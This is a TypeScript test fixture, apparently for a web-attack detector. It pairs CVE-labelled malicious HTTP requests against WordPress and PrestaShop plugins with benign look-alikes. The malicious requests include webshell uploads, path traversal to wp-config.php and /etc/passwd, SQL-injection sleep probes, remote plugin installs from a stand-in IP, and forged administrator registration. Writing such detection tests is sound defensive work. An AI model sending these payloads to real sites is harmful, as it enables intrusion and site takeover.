import type { Cases } from './cases.ts';

const upload = (action: string, name: string) =>
  `POST /wp-admin/admin-ajax.php\n\n--a\nContent-Disposition: form-data; name="action"\n\n${action}\n--a\nContent-Disposition: form-data; name="file"; filename="${name}"\n\nx\n--a--`;

export const cmsPlugins: Cases = {
  'CVE-2020-25213': [
    'POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php\n\ncmd=upload&target=l1_',
    'GET /wp-content/plugins/file-manager/lib/js/a.js',
  ],
  'CVE-2024-25600': [
    'POST /wp-json/bricks/v1/render_element\n\n{"postId":"1","nonce":"a","element":{"name":"container"}}',
    'GET /wp-json/bricks/v1/load',
  ],
  'CVE-2023-5360': [upload('wpr_addons_upload_file', 'a.ph$p'), upload('upload_file', 'a.png')],
  'CVE-2023-32243': [
    'POST /\n\naction=login_or_register_user&page_id=1&login-register=1&eael-resetpassword-submit=true&rp_login=admin',
    'POST /\n\naction=login&log=admin',
  ],
  'CVE-2023-28121': [
    'POST /wp-json/wp/v2/users\nX-WCPAY-PLATFORM-CHECKOUT-USER: 1\n\nusername=a',
    'POST /wp-json/wp/v2/comments\n\nauthor=a',
  ],
  'CVE-2024-27956': [
    'POST /wp-content/plugins/wp-automatic/inc/csv.php\n\nq=INSERT+INTO+wp_users',
    'GET /wp-content/plugins/automatic/csv.js',
  ],
  'CVE-2024-27954': ['GET /?p=3232&wp_automatic=download&link=file:///etc/passwd', 'GET /?p=3232&download=1'],
  'CVE-2024-10924': [
    'POST /?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding\n\n{"user_id":1,"login_nonce":"a"}',
    'GET /?rest_route=/reallysimplessl/v1/status',
  ],
  'CVE-2024-28000': [
    'POST /wp-json/wp/v2/users\nCookie: litespeed_hash=abcdef; litespeed_role=1\n\na',
    'GET /\nCookie: litespeed_vary=1',
  ],
  'CVE-2024-5932': [
    'POST /wp-admin/admin-ajax.php\n\naction=give_process_donation&give_title=O:19:"Stripe\\\\StripeObject":1:{}',
    'POST /wp-admin/admin-ajax.php\n\naction=give_process_donation&give_title=Ms',
  ],
  'CVE-2024-11972': ['POST /wp-json/hc/v1/themehunk-import\n\nplugin=a', 'GET /wp-json/hc/v1/status'],
  'CVE-2024-50498': [
    'POST /wp-json/wqc/v1/query\n\n{"queryArgs":"phpinfo();","queryType":"WP_Query"}',
    'POST /wp-json/wp/v2/query\n\n{}',
  ],
  'CVE-2023-6553': [
    'POST /wp-content/plugins/backup-backup/includes/backup-heart.php\nContent-Dir: php://filter',
    'GET /wp-content/plugins/backup/heart.php',
  ],
  'CVE-2023-3460': [
    'POST /register/\n\nuser_login-7=a&wp_c%C3%A0pabilities%5Badministrator%5D=1&form_id=7',
    'POST /register/\n\nuser_login-7=administrator',
  ],
  'CVE-2024-1071': [
    'POST /wp-admin/admin-ajax.php\n\naction=um_get_members&nonce=a&directory_id=b&sorting=user_login` AND SLEEP(5)',
    'POST /wp-admin/admin-ajax.php\n\naction=um_get_members',
  ],
  'CVE-2025-3102': [
    'POST /wp-json/sure-triggers/v1/automation/action\nst_authorization: Bearer\n\n{"type_event":"create_user_if_not_exists"}',
    'GET /wp-json/sure-triggers/v1/status',
  ],
  'CVE-2025-11833': [
    'GET /wp-admin/admin.php?page=postman_email_log&view=log&log_id=1',
    'GET /wp-admin/admin.php?page=postman',
  ],
  'CVE-2025-5394': [
    'POST /wp-admin/admin-ajax.php\n\naction=alone_import_pack_install_plugin&plugin_source=http://198.51.100.7/a.zip',
    'POST /wp-admin/admin-ajax.php\n\naction=import',
  ],
  'CVE-2025-6389': [
    'POST /wp-admin/admin-ajax.php\n\naction=sneeit_articles_pagination&callback=wp_insert_user&args={}',
    'POST /wp-admin/admin-ajax.php\n\naction=sneeit_articles_pagination&page=2',
  ],
  'CVE-2025-8489': [
    'POST /wp-admin/admin-ajax.php\n\naction=king_addons_user_register&user_role=administrator',
    'POST /wp-admin/admin-ajax.php\n\naction=king_addons_user_register&user_role=subscriber',
  ],
  'CVE-2020-8772': [
    'POST /\n\n_IWP_JSON_PREFIX_eyJpd3BfYWN0aW9uIjoiYWRkX3NpdGUifQ==',
    'POST /\n\nprefix=IWP',
  ],
  'wordpress-uploadify': [
    'POST /wp-content/plugins/wp-property/third-party/uploadify/uploadify.php\n\nx',
    'GET /uploadify/uploadify.css',
  ],
  'CVE-2014-9734': [
    'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
    'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=a.png',
  ],
  'CVE-2014-9735': [
    'POST /wp-admin/admin-ajax.php\n\naction=revslider_ajax_action&client_action=update_plugin',
    'POST /wp-admin/admin-ajax.php\n\naction=revslider_ajax_action',
  ],
  'CVE-2021-24499': [
    upload('workreap_award_temp_file_uploader', 'a.php'),
    upload('workreap_status', 'a.php'),
  ],
  'CVE-2021-24284': [
    'POST /wp-admin/admin-ajax.php?action=uploadFontIcon\n\nx',
    'POST /wp-admin/admin-ajax.php?action=font\n\nx',
  ],
  'CVE-2021-25094': [upload('add_custom_font', '.a.php'), upload('add_font', 'a.woff')],
  'CVE-2020-12800': [upload('dnd_codedropz_upload', 'a.php%'), upload('dnd_codedropz_upload', 'a.png')],
  'CVE-2020-24186': [upload('wmuUploadFiles', 'a.php'), upload('wmuUploadFiles', 'a.gif')],
  'CVE-2019-9978': [
    'GET /wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://198.51.100.7/a.txt',
    'GET /wp-admin/admin-post.php?swp=1',
  ],
  'CVE-2018-7422': [
    'GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/etc/passwd',
    'GET /wp-content/plugins/site-editor/readme.txt',
  ],
  'CVE-2020-11738': [
    'GET /wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php',
    'GET /wp-admin/admin-ajax.php?action=download&file=a',
  ],
  'CVE-2018-17207': ['POST /installer.php\n\naction_ajax=3&dbhost=a', 'GET /installers.php'],
  'CVE-2022-21661': [
    'POST /wp-admin/admin-ajax.php\n\naction=x&query_vars={"tax_query":{"0":{"field":"term_taxonomy_id","terms":["1) AND (select sleep(5))"]}}}',
    'POST /wp-admin/admin-ajax.php\n\naction=x&tax_query=1',
  ],
  'CVE-2017-1001000': [
    'POST /wp-json/wp/v2/posts/1?id=1abc\n\n{"title":"x"}',
    'POST /wp-json/wp/v2/posts/1?id=1\n\n{"title":"x"}',
  ],
  'wordpress-user-names': ['GET /wp-json/wp/v2/users', 'GET /wp-json/wp/v2/pages'],
  'wordpress-xmlrpc-multicall': [
    'POST /xmlrpc.php\n\n<methodCall><methodName>system.multicall</methodName><params>wp.getUsersBlogs</params></methodCall>',
    'POST /xmlrpc.php\n\n<methodCall><methodName>pingback.ping</methodName><params>https://blog.example/a</params></methodCall>',
  ],
  'wordpress-setup-open': ['GET /wp-admin/setup-config.php', 'GET /wp-admin/css/install.css'],
  'prestashop-blockwishlist': [
    'GET /modules/blockwishlist/view.php?token=a&order=(select(0)from(select(sleep(6)))v)',
    'GET /modules/wishlist/view.php?order=name',
  ],
  'prestashop-uploadimage': [
    'POST /modules/simpleslideshow/uploadimage.php\n\nx',
    'GET /modules/slideshow/image.php',
  ],
  'CVE-2025-47577': [
    'POST /?tinvwl_file=1\n\n--a\nContent-Disposition: form-data; name="tinvwl-form"; filename="a.php"\n\nx\n--a--',
    'POST /\n\n--a\nContent-Disposition: form-data; name="tinvwl-form"; filename="a.png"\n\nx\n--a--',
  ],
};
